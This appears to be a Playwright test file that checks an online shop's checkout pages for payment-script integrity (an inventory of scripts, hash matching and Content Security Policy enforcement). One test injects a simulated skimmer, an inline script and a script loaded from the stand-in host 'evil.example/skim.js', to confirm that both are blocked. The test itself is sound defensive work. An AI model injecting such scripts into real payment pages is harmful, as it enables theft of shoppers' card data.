import { followRequests } from '@toile/tool-release';
import { config } from '../config.ts';
import { scriptsOf, unlisted } from './support/payment-scripts.ts';
import { buyableProducts } from './support/products.ts';
import { release } from './support/releasing.ts';
import { alive, expect, test } from './support/shop.ts';
import { addToBag, expectThanks, fillAddress, fillCard, placeOrder } from './support/steps.ts';

test.beforeEach(async ({ page, request }) => {
  const [product] = await buyableProducts(request, 1);
  if (!product) throw new Error('Nothing to buy');
  await addToBag(page, product);
  const quiet = followRequests(page);
  await page.goto('/basket');
  await alive(page);
  // What the bag's page still loads is none of the payment page's.
  await quiet();
});

test('the payment pages have the scripts of their inventory, as they were released, and no other (T29)', async ({
  page,
}) => {
  test.slow();
  const scripts = scriptsOf(page);
  const documents: string[] = [];
  page.on('request', (request) => {
    if (request.isNavigationRequest() && request.frame() === page.mainFrame())
      documents.push(new URL(request.url()).pathname);
  });
  await page.getByRole('link', { name: 'Proceed to checkout' }).click();
  await fillAddress(page, 'emmy.noether@example.com');
  await fillCard(page, '4242424242424242');
  await placeOrder(page);
  await expectThanks(page);
  const seen = await scripts();
  expect(await unlisted(seen)).toEqual([]);
  expect(seen.map(({ address }) => address)).toContain('/payments-sandbox/v3/stripe.js');
  expect(documents).toEqual(['/checkout']);

  await test.step('and the next page of the shop has neither them nor the policy that lets them in', async () => {
    await page.getByRole('link', { name: 'Toile' }).first().click();
    await page.waitForURL((url) => !url.pathname.startsWith('/checkout'));
    await alive(page);
    expect(documents).toHaveLength(2);
    expect(await page.evaluate(() => 'Stripe' in window)).toBe(false);
  });
});

test('a script that nobody has written down is found (T29)', async ({ page }) => {
  const scripts = scriptsOf(page);
  const isDocument = ({ pathname }: URL) => pathname === '/checkout';
  await page.route(isDocument, async (route) => {
    const answer = await route.fetch();
    const added = '<script src="/media/analytics.js"></script>';
    await route.fulfill({
      response: answer,
      body: (await answer.text()).replace('</head>', `${added}</head>`),
    });
  });
  await page.route('**/media/analytics.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: '"tag manager"' }),
  );
  await page.goto('/checkout');
  await page.waitForFunction(() => 'Stripe' in window);
  expect(await unlisted(await scripts())).toEqual(['/media/analytics.js']);
});

test('a released script of another content is found (T29)', async ({ page }) => {
  const scripts = scriptsOf(page);
  await page.goto('/checkout');
  await alive(page);
  const [script] = (await scripts()).filter(({ address }) => address.includes('/mf-checkout/'));
  if (!script) throw new Error('The checkout has no script');
  expect(await unlisted([script])).toEqual([]);
  expect(await unlisted([{ ...script, hash: 'sha256-other' }])).toEqual([script.address]);
});

test('the watch of the payment page says that it is as it was released (T29)', async () => {
  expect(await release('payment-page', config.baseUrl)).toContain('is as it was released');
});

test.describe('a script of another host', () => {
  test.use({ expectedComplaint: /^policy: |violates the following Content Security Policy/ });

  test('is not run on a payment page, nor one that stands in it, and release managers read of both (T29, T26)', async ({
    page,
  }) => {
    await page.goto('/checkout');
    await alive(page);
    await page.evaluate(() => {
      const text = Object.assign(document.createElement('script'), { text: 'window.skimmed = true' });
      const other = Object.assign(document.createElement('script'), { src: 'https://evil.example/skim.js' });
      document.head.append(text, other);
    });
    await expect
      .poll(() => release('status'), { timeout: 20_000 })
      .toMatch(/policy ×\d[^\n]*script-src-elem refused (?:inline|https:\/\/evil\.example\/skim\.js)/);
    expect(await page.evaluate(() => 'skimmed' in window)).toBe(false);
  });
});
